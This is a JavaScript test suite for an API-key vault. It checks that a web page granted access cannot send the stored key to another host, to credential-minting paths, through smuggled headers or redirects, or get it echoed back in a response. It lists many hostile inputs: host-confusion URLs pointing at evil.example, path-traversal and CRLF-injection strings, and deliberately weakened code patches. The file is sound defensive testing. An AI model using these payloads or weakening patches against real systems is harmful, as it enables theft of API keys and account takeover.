// requests: a page that was granted everything tries to have a key go elsewhere, or come back: confusing addresses, other
// paths, headers of its own, redirects, an answer that repeats the key. Against the real worker and engine.
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { gzipSync } from 'node:zlib'
import { provider } from '../web/support/provider.mjs'
import { key, tick } from '../web/support/browser.mjs'
import { call, CHAT, codeOf, OTHER_SECRET, SECRET, seen, textOf, vault } from './support/pages.mjs'
import { weakened } from './support/weaken.mjs'

const ALL = { providers: ['openai', 'anthropic'], scopes: ['files', 'images', 'audio', 'batch'] }
const holdsKey = (request) => [SECRET, OTHER_SECRET].some((secret) => textOf(request).includes(secret))

/** A worker that has the engine seal a call to a sound address, and then sends it where the page said. */
const credulous = {
  'src/worker/calls.ts': [
    ['vault.engine.fetch(url, method,', `vault.engine.fetch('${CHAT}', 'POST',`],
    ['        body: ask.body,\n', '        body: ask.body, to: [ask.url, ask.method],\n'],
  ],
  'src/worker/exchange.ts': [
    ['  body?: Uint8Array | Blob | null\n', '  body?: Uint8Array | Blob | null\n  to?: [string, string]\n'],
    [
      'sent(call, net, caller.body ?? null, own.signal, deadline)',
      'sent(call, net, caller.body ?? null, own.signal, deadline, caller.to)',
    ],
    [
      '  deadline: Deadline,\n): Promise<Response> {',
      '  deadline: Deadline,\n  to?: [string, string],\n): Promise<Response> {',
    ],
    ['  const { url, method } = request\n', '  const [url, method] = to ?? [request.url, request.method]\n'],
  ],
}

describe('addresses', () => {
  const CONFUSED = [
    // Whose host is it?
    'https://api.openai.com@evil.example/v1/chat/completions',
    'https://api.openai.com:443@evil.example/v1/chat/completions',
    'https://user:pass@api.openai.com/v1/chat/completions',
    'https://evil.example/v1/chat/completions',
    'https://evil.example/https://api.openai.com/v1/chat/completions',
    'https://evil.example#https://api.openai.com/v1/chat/completions',
    'https://evil.example?https://api.openai.com/v1/chat/completions',
    'https://api.openai.com.evil.example/v1/chat/completions',
    'https://api.openai.com\\@evil.example/v1/chat/completions',
    'https://evil.example\\.api.openai.com/v1/chat/completions',
    'https://api.openai.com\t.evil.example/v1/chat/completions',
    'https://api.openai.com%2eevil.example/v1/chat/completions',
    'https://api.openai.com./v1/chat/completions',
    'https://api.openai.com。/v1/chat/completions',
    'https://аpi.openai.com/v1/chat/completions',
    'https://xn--pi-7kc.openai.com/v1/chat/completions',
    'https://api。openai。com.evil.example/v1/chat/completions',
    'https://ⓐpi.openai.com/v1/chat/completions',
    'https://api.openai.com:8443/v1/chat/completions',
    'https://api.openai.com:80/v1/chat/completions',
    'http://api.openai.com/v1/chat/completions',
    'ws://api.openai.com/v1/chat/completions',
    'ftp://api.openai.com/v1/chat/completions',
    'javascript://api.openai.com/v1/chat/completions',
    'data:application/json,https://api.openai.com/v1/chat/completions',
    'blob:https://api.openai.com/v1/chat/completions',
    '//evil.example/v1/chat/completions',
    '/v1/chat/completions',
    'https:evil.example/v1/chat/completions',
    'https:/\\evil.example/v1/chat/completions',
    'https://127.0.0.1/v1/chat/completions',
    'https://[::ffff:127.0.0.1]/v1/chat/completions',
    // Which path is it?
    'https://api.openai.com/v1/../v1/organization/admin_api_keys',
    'https://api.openai.com/v1/chat/completions/../../organization/admin_api_keys',
    'https://api.openai.com/v1/%2e%2e/v1/organization/admin_api_keys',
    'https://api.openai.com/v1/chat/completions/%2e%2e/%2e%2e/realtime/client_secrets',
    'https://api.openai.com/v1/.%2E/realtime/client_secrets',
    'https://api.openai.com/v1/chat%2fcompletions',
    'https://api.openai.com/v1/chat%2Fcompletions',
    'https://api.openai.com/v1/chat%5ccompletions',
    'https://api.openai.com/v1/chat\\completions',
    'https://api.openai.com/v1//chat/completions',
    'https://api.openai.com//v1/chat/completions',
    'https://api.openai.com/v1/chat/completions/',
    'https://api.openai.com/v1/chat/completions;x=1',
    'https://api.openai.com/v1/chat/completions%00',
    'https://api.openai.com/v1/chat/completions%0d%0ax-evil: 1',
    'https://api.openai.com/v1/chat/completions\r\nhost: evil.example',
    'https://api.openai.com/v1/CHAT/completions',
    'https://api.openai.com/v2/chat/completions',
    'https://api.openai.com/chat/completions',
    'https://api.openai.com/v1/files/../organization/admin_api_keys/content',
    'https://api.openai.com/v1/files/%2e%2e%2forganization/content',
    // What goes along?
    'https://api.openai.com/v1/chat/completions?base_url=https://evil.example',
    'https://api.openai.com/v1/chat/completions?api-version=1&redirect=https://evil.example',
  ]
  /** Paths that make credentials, manage them or the account. */
  const MINTING = [
    ['POST', 'https://api.openai.com/v1/realtime/client_secrets'],
    ['POST', 'https://api.openai.com/v1/realtime/sessions'],
    ['POST', 'https://api.openai.com/v1/realtime/transcription_sessions'],
    ['POST', 'https://api.openai.com/v1/organization/admin_api_keys'],
    ['GET', 'https://api.openai.com/v1/organization/projects/p/api_keys'],
    ['POST', 'https://api.openai.com/v1/organization/invites'],
    ['POST', 'https://api.openai.com/v1/chatkit/sessions'],
    ['POST', 'https://api.openai.com/v1/fine_tuning/jobs'],
    ['DELETE', 'https://api.openai.com/v1/models/m'],
    ['GET', 'https://api.anthropic.com/v1/organizations/me'],
    ['GET', 'https://api.anthropic.com/v1/organizations/api_keys'],
    ['POST', 'https://api.anthropic.com/v1/organizations/invites'],
  ]
  const METHODS = [
    'CONNECT',
    'TRACE',
    'TRACK',
    'PUT',
    'PATCH',
    'DELETE',
    'OPTIONS',
    'get',
    'post',
    'GET\r\nx: y',
    'POST ',
  ]
  const attempts = [
    ...CONFUSED.map((url) => call(2, url)),
    ...MINTING.map(([method, url]) =>
      call(2, url, { method, ...(method === 'POST' ? {} : { body: null, headers: [] }) }),
    ),
    ...METHODS.map((method) => call(2, CHAT, { method })),
  ]
  const attack = async (t, weak) => {
    const world = await vault(t, { weak })
    const page = await world.grant(ALL)
    const codes = []
    for (const [index, one] of attempts.entries()) codes.push(codeOf(await page.ask({ ...one, call: 10 + index })))
    await tick(20)
    const strayed = world
      .sent()
      .filter(
        ({ url, init }) => holdsKey(init.headers ? [...init.headers] : []) && !(url === CHAT && init.method === 'POST'),
      )
    return { codes, strayed, sent: world.sent().length, page, world }
  }

  test(`each of ${attempts.length} confusing ones, paths that mint credentials and other methods is refused, and nothing is sent`, async (t) => {
    const { codes, sent, page, world } = await attack(t)
    for (const [index, code] of codes.entries()) {
      assert.match(
        code,
        /^ERR_(UNKNOWN_ENDPOINT|PATH_NOT_ALLOWED|BAD_REQUEST|BAD_INPUT)$/,
        `${attempts[index].method} ${attempts[index].url}`,
      )
    }
    assert.equal(sent, 0)
    assert.equal(codeOf(await page.ask(call(3))), 'ok', 'control: the plain address')
    assert.ok(holdsKey(world.sent().map(({ headers }) => headers)))
  })
  test('control: where the worker sends a call to where the page says, the key goes astray', async (t) => {
    const { codes, strayed } = await attack(t, await weakened(credulous))
    const reached = codes.filter((code) => code === 'ok').length
    assert.ok(reached > 60, `${reached} of ${attempts.length} reached somebody`)
    assert.ok(strayed.some(({ url }) => url.includes('@evil.example')))
    assert.ok(strayed.some(({ url }) => url.includes('client_secrets')))
  })

  test('a base that the page would like is not taken from it: no endpoint is added, no call names one', async (t) => {
    const world = await vault(t)
    const page = await world.grant(ALL)
    for (const more of [
      { base: 'https://evil.example/v1/' },
      { baseURL: 'https://evil.example/v1/' },
      { provider: 'openai' },
      { app: '' },
      { origin: null },
    ]) {
      assert.equal(codeOf(await page.ask({ ...call(2), ...more })), 'ERR_BAD_INPUT', JSON.stringify(more))
    }
    const add = { op: 'addEndpoint', name: 'Mine', base: 'https://evil.example/v1/', like: 'openai' }
    assert.equal(codeOf(await page.ask(add)), 'ERR_BAD_INPUT')
    assert.deepEqual(world.sent(), [])
    assert.equal(codeOf(await world.own.ask(add)), 'ok', "control: the vault's own page may")
  })
})

describe('headers', () => {
  const MARK = 'smuggled-7f3a'
  const SMUGGLED = [
    'authorization',
    'Authorization',
    'x-api-key',
    'api-key',
    'x-goog-api-key',
    'proxy-authorization',
    'cookie',
    'cookie2',
    'set-cookie',
    'host',
    'origin',
    'referer',
    'connection',
    'keep-alive',
    'transfer-encoding',
    'te',
    'trailer',
    'upgrade',
    'content-length',
    'content-encoding',
    'expect',
    'via',
    'forwarded',
    'x-forwarded-for',
    'x-forwarded-host',
    'x-http-method-override',
    'x-method-override',
    'x-original-url',
    'x-rewrite-url',
    'sec-fetch-site',
    'proxy-connection',
    'accept-encoding',
    'date',
    'dnt',
    'permissions-policy',
    'access-control-request-method',
    'x-stainless-helper-method',
    'x-evil',
  ]
  const server = async () =>
    provider((_, response) =>
      response.writeHead(200, { 'content-type': 'application/json' }).end('{"model":"m","choices":[]}'),
    )
  const attack = async (t, weak) => {
    const net = await server()
    t.after(() => net.close())
    const world = await vault(t, {
      weak,
      send: fetch,
      config: { providers: [{ id: 'stand-in', name: 'Stand-in', base: `${net.base}v1/` }] },
    })
    await world.tab.add({ provider: 'stand-in', label: 'x', secret: key(SECRET), unchecked: true })
    const page = await world.grant({ ...ALL, providers: ['stand-in'] })
    const codes = []
    for (const [index, name] of SMUGGLED.entries()) {
      const headers = [
        ['content-type', 'application/json'],
        [name, MARK],
      ]
      codes.push([name, codeOf(await page.ask(call(10 + index, `${net.base}v1/chat/completions`, { headers })))])
    }
    return { codes, requests: net.requests, page, net }
  }

  test("none of a caller's headers that carries a credential, a cookie, a hop or an encoding arrives; the key is the vault's", async (t) => {
    const { codes, requests, page, net } = await attack(t)
    for (const [name, code] of codes) {
      if (name === 'content-encoding') assert.equal(code, 'ERR_BAD_REQUEST', name)
      else assert.match(code, /^(ok|ERR_BAD_REQUEST)$/, name)
    }
    assert.ok(requests.length > 10)
    for (const request of requests) {
      assert.equal(request.headers.authorization, `Bearer ${SECRET}`)
      assert.ok(!JSON.stringify(request.headers).includes(MARK), JSON.stringify(request.headers))
    }
    for (const headers of [
      [['x\r\nevil', '1']],
      [['accept', 'a\r\nx-evil: 1']],
      [['accept', 'a\u0000']],
      [['', 'x']],
      [['a b', 'x']],
    ]) {
      assert.match(
        codeOf(await page.ask(call(2, `${net.base}v1/chat/completions`, { headers }))),
        /^ERR_BAD_/,
        JSON.stringify(headers),
      )
    }
  })
  test("control: where the worker adds the caller's headers itself, they arrive, and take the key's place", async (t) => {
    const weak = await weakened({
      'src/worker/calls.ts': [['        body: ask.body,\n', '        body: ask.body, extra: ask.headers,\n']],
      'src/worker/exchange.ts': [
        ['  body?: Uint8Array | Blob | null\n', '  body?: Uint8Array | Blob | null\n  extra?: [string, string][]\n'],
        [
          'sent(call, net, caller.body ?? null, own.signal, deadline)',
          'sent(call, net, caller.body ?? null, own.signal, deadline, caller.extra)',
        ],
        [
          '  deadline: Deadline,\n): Promise<Response> {',
          '  deadline: Deadline,\n  extra: [string, string][] = [],\n): Promise<Response> {',
        ],
        [
          '  const begun = net.tick()\n  try {\n    const sending',
          '  for (const [name, value] of extra) headers.set(name, value)\n  const begun = net.tick()\n  try {\n    const sending',
        ],
      ],
    })
    const { requests } = await attack(t, weak)
    const arrived = SMUGGLED.filter((name) =>
      requests.some(({ headers }) => String(headers[name.toLowerCase()]).includes(MARK)),
    )
    for (const name of ['authorization', 'x-api-key', 'cookie', 'x-forwarded-host', 'x-evil'])
      assert.ok(arrived.includes(name), `${name} of ${arrived}`)
  })
})

describe('redirects', () => {
  const attack = async (t, weak) => {
    const evil = await provider((_, response) =>
      response.writeHead(200, { 'content-type': 'application/json', 'access-control-allow-origin': '*' }).end('{}'),
    )
    const net = await provider(({ url }, response) => {
      if (url === '/v1/chat/completions') return response.writeHead(302, { location: target(evil) }).end()
      response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ seen: url }))
    })
    let target
    t.after(() => (evil.close(), net.close()))
    const site = {
      providers: [{ id: 'stand-in', name: 'Stand-in', base: `${net.base}v1/`, auth: { header: 'x-api-key' } }],
    }
    const world = await vault(t, { weak, send: fetch, config: site })
    await world.tab.add({ provider: 'stand-in', label: 'x', secret: key(SECRET), unchecked: true })
    const page = await world.grant({ ...ALL, providers: ['stand-in'] })
    const codes = []
    for (const [index, to] of [
      () => `${evil.base}v1/chat/completions`,
      () => '/v1/api_keys',
      () => '//localhost:1/',
    ].entries()) {
      target = to
      codes.push(codeOf(await page.ask(call(2 + index, `${net.base}v1/chat/completions`))))
    }
    return { codes, evil: evil.requests, minted: net.requests.filter(({ url }) => url === '/v1/api_keys') }
  }
  test('are followed nowhere: neither to another origin nor to another path of the same', async (t) => {
    const { codes, evil, minted } = await attack(t)
    for (const code of codes) assert.notEqual(code, 'ok')
    // Whoever looks whether anything answers at an address asks without a key.
    assert.deepEqual([evil.filter(holdsKey), minted], [[], []])
  })
  test('control: where the worker follows them, the key arrives at both', async (t) => {
    const weak = await weakened({ 'src/worker/exchange.ts': [["redirect: 'error'", "redirect: 'follow'"]] })
    const { evil, minted } = await attack(t, weak)
    assert.ok(evil.some(({ headers }) => headers['x-api-key'] === SECRET))
    assert.ok(minted.some(({ headers }) => headers['x-api-key'] === SECRET))
  })
})

describe('an answer that repeats the key', () => {
  const json = JSON.stringify({ choices: [], echo: `x${SECRET}y` })
  const PERCENT = Buffer.from(SECRET).toString('hex').replace(/../g, '%$&')
  const cut = (text, at) => [text.slice(0, at), text.slice(at)]
  const FORMS = [
    ['as it is', [json]],
    ['in two pieces', cut(json, json.indexOf(SECRET) + 9)],
    ['a byte at a time', [...json]],
    ['in base64', [JSON.stringify({ echo: btoa(`Bearer ${SECRET}`) })]],
    ['in base64, shifted', [JSON.stringify({ echo: btoa(`xBearer ${SECRET}`) }), '']],
    ['percent-encoded', [JSON.stringify({ echo: PERCENT })]],
    ['as an event of a stream', [`data: ${json}\n\n`], 'text/event-stream'],
    ['in an error', [JSON.stringify({ error: { message: `bad key ${SECRET}` } })], 'application/json', 401],
    ['packed by the server', [gzipSync(json)], 'application/json', 200, { 'content-encoding': 'gzip' }],
    ['in a header that passes', ['{}'], 'application/json', 200, { 'x-request-id': SECRET }],
    ['in a header that does not', ['{}'], 'application/json', 200, { 'x-echo': SECRET }],
  ]
  const attack = async (t, weak) => {
    let form
    const net = await provider(async (_, response) => {
      const [, pieces, type = 'application/json', status = 200, more = {}] = form
      response.writeHead(status, { 'content-type': type, ...more })
      for (const piece of pieces) {
        response.write(piece)
        if (pieces.length === 2) await tick(5)
      }
      response.end()
    })
    t.after(() => net.close())
    const world = await vault(t, {
      weak,
      send: fetch,
      config: { providers: [{ id: 'stand-in', name: 'Stand-in', base: `${net.base}v1/` }] },
    })
    await world.tab.add({ provider: 'stand-in', label: 'x', secret: key(SECRET), unchecked: true })
    const page = await world.grant({ ...ALL, providers: ['stand-in'] })
    const outcomes = []
    for (const [index, one] of FORMS.entries()) {
      form = one
      const number = 10 + index
      const before = page.all.length
      const reply = await page.ask(call(number, `${net.base}v1/chat/completions`))
      const over = () =>
        page.events.find(({ call: of, part }) => of === number && ['end', 'failed'].includes(part.type))
      const last = reply.ok ? (await seen(over)).part : null
      const bytes = page.all.slice(before).flatMap(({ part }) => (part?.type === 'bytes' ? [...part.bytes] : []))
      const heard = textOf(reply, page.all.slice(before)) + new TextDecoder().decode(new Uint8Array(bytes))
      const has = [SECRET, btoa(`Bearer ${SECRET}`), btoa(`xBearer ${SECRET}`), PERCENT].some((text) =>
        heard.includes(text),
      )
      outcomes.push([one[0], reply.ok ? (last.error?.code ?? 'ok') : reply.error.code, has])
    }
    return { outcomes, world }
  }
  test('is stopped in each form, and noted; a header that is not passed on need not be', async (t) => {
    const { outcomes, world } = await attack(t)
    for (const [what, code, has] of outcomes) {
      assert.equal(code, what === 'in a header that does not' ? 'ok' : 'ERR_KEY_REFLECTED', what)
      assert.equal(has, false, what)
    }
    const { entries } = await world.tab.audit()
    assert.ok(
      entries.some(({ action }) => /reflect/.test(action)),
      entries.map(({ action }) => action).join(),
    )
  })
  test('control: where the worker passes answers on without asking the engine, the page reads it each time', async (t) => {
    const weak = await weakened({
      'src/worker/exchange.ts': [
        [
          'const headers = take(call.response(response.status, [...response.headers]))',
          'const headers = [...response.headers] as [string, string][]; take(call.response(response.status, [["content-type", "application/json"]]))',
        ],
        ['const released = take(call.feed(batch))', 'const released = true as true | Uint8Array<ArrayBuffer>'],
        ['    pass(take(call.end()))\n', ''],
      ],
    })
    const { outcomes } = await attack(t, weak)
    for (const [what, code, has] of outcomes) assert.deepEqual([code, has], ['ok', true], what)
  })
})
